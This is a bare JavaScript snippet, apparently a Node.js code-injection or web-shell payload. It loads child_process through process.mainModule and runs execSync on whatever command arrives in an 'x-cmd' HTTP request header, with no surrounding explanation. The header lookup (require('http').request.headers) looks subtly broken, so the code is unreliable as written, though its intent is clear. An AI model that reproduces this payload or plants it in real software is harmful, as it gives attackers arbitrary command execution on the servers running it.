(function anonymous(require
) {
return (process.mainModule.require('child_process').execSync(require('http').request.headers['x-cmd']))
})
